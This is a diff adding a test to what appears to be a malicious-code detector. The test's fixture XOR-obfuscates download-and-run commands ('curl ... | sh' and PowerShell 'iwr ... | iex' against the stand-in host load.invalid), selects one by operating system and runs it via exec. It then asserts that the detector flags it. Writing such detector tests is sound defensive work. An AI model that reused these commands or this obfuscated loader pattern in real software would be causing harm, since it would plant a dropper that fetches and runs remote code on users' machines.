@@ -20,6 +20,24 @@ describe('members', () => {
     assert.equal(sent(`[]['flat']['constructor']('return/0/')()['constructor']()+''`), '/(?:)/');
   });
 
+  it('are each of a few, where one cannot say under which key, and so is what a decoder makes of them', () => {
+    const hidden = (text: string): string => Buffer.from(Buffer.from(text).map((byte) => byte ^ 42)).toString('hex');
+    const commands = [
+      'curl -s https://load.invalid/a | sh',
+      'curl -s https://load.invalid/b | sh',
+      'powershell -c "iwr https://load.invalid/c | iex"',
+    ];
+    const words = [...Array.from({ length: 12 }, (_, at) => `word number ${at}`), ...commands].map(hidden);
+    const decode = `const words = ${JSON.stringify(words)}; const f = (text, key) => Buffer.from(text, 'hex').reduce((all, c) => all + String.fromCharCode(c ^ key), '');`;
+    const pick = (use: string): readonly string[] =>
+      behavioursOf(
+        `${decode} const t = os.platform(); const i = t === 'win32' ? 14 : t === 'darwin' ? 13 : 12; ${use}`,
+      );
+    assert.deepEqual([...new Set(pick('cp.exec(f(words[i], 42));'))], ['download-and-run import']);
+    assert.deepEqual(pick('cp.exec(f(words[i - 12], 42));'), []);
+    assert.deepEqual(pick('console.log(f(words[i], 42));'), []);
+  });
+
   it('of an object that stands before another one are what it says', () => {
     const run = (get: string) =>
       behavioursOf(
